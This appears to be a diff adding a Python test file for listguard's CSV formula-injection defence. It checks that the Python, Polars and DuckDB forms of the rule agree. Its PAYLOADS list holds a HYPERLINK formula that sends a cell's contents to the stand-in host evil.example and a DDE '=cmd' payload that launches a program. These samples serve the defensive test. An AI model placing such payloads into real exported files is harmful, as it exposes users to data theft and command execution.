@@ -1,0 +1,127 @@
+"""No cell of a CSV listguard writes acts as a spreadsheet formula (formats.md, "Writing
+files"): a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
+gets a leading ``'``, but for E.164 numbers in a column of coordinates. Checked on the
+rule itself (its Python, Polars and DuckDB forms agree) and on every file written:
+delivery, rejects, enrichment, deduplication, addresses, the partners' file drop."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Sequence
+
+import duckdb
+import polars as pl
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from listguard.io.formula import (
+    FORMULA_STARTS,
+    neutralise,
+    neutralised_frame,
+    neutralised_sql,
+    restore,
+)
+
+# the issue's payloads, and the other dangerous first characters
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "\t=1+1",
+    "-2+3",
+    "\r=1",
+]
+E164 = re.compile(r"\+[1-9][0-9]{1,14}(\|\+[1-9][0-9]{1,14})*")
+
+
+# -- the rule ----------------------------------------------------------------------------
+
+
+# the payloads, any text after a dangerous character, behind quotes or not
+_hostile_text = st.one_of(
+    st.sampled_from(PAYLOADS),
+    st.builds(
+        lambda q, c, t: q + c + t,
+        st.sampled_from(["", "'", "''"]),
+        st.sampled_from([*FORMULA_STARTS, "'", "a", "0"]),
+        st.text(),
+    ),
+)
+
+
+def _three_forms(values: Sequence[str | None], numbers: bool) -> list[list[str | None]]:
+    """``values`` neutralised by the Python function, the Polars expression and DuckDB."""
+    python = [None if v is None else neutralise(v, numbers=numbers) for v in values]
+    frame = pl.DataFrame({"v": list(values)}, schema={"v": pl.String})
+    polars = neutralised_frame(frame, numbers=["v"] if numbers else []).to_series().to_list()
+    db = duckdb.connect()
+    db.register("t", frame.to_arrow())
+    sql = neutralised_sql('"v"', numbers=numbers)
+    duck = [r[0] for r in db.sql(f"SELECT {sql} FROM t").fetchall()]
+    db.close()
+    return [python, polars, duck]
+
+
+@pytest.mark.parametrize("numbers", [False, True])
+def test_each_payload_gets_a_quote_in_every_form(numbers: bool) -> None:
+    for form in _three_forms(PAYLOADS, numbers):
+        assert form == ["'" + p for p in PAYLOADS]
+
+
+def test_e164_passes_only_in_a_column_of_coordinates() -> None:
+    values = [
+        "+33612345678",
+        "+33612345678|+262692123456",
+        "+33 6 12 34 56 78",  # kept as given: not proven harmless
+        "+33612345678|=1+1",
+        "+1",
+        "Dupont",
+        "marie@example.com",
+        "'=1",  # quoted by its author: one quote more, so that nothing is lost
+        "'Aujourd'hui",
+        "",
+        None,
+    ]
+    as_numbers = [
+        "+33612345678",
+        "+33612345678|+262692123456",
+        "'+33 6 12 34 56 78",
+        "'+33612345678|=1+1",
+        "'+1",
+        "Dupont",
+        "marie@example.com",
+        "''=1",
+        "'Aujourd'hui",
+        "",
+        None,
+    ]
+    for form in _three_forms(values, numbers=True):
+        assert form == as_numbers
+    # a free-text column gets no exception for the shape of a number
+    for form in _three_forms(values, numbers=False):
+        assert form[:5] == ["'" + v for v in values[:5] if v is not None]
+        assert form[5:] == as_numbers[5:]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.one_of(st.none(), st.text(), _hostile_text), max_size=20))
+def test_any_text_is_written_safe_and_nothing_is_lost(values: list[str | None]) -> None:
+    for numbers in (False, True):
+        python, polars, duck = _three_forms(values, numbers)
+        assert python == polars == duck
+        for given_value, written in zip(values, python, strict=True):
+            if given_value is None:
+                assert written is None
+                continue
+            assert written is not None
+            safe = not written.startswith(FORMULA_STARTS) or (
+                numbers and E164.fullmatch(written) is not None
+            )
+            assert safe, written
+            # the quote is added only to what needs it, and removing it gives the value back
+            assert restore(written) == given_value
+            if written != given_value:
+                assert written == "'" + given_value
+                assert given_value.lstrip("'").startswith(FORMULA_STARTS)
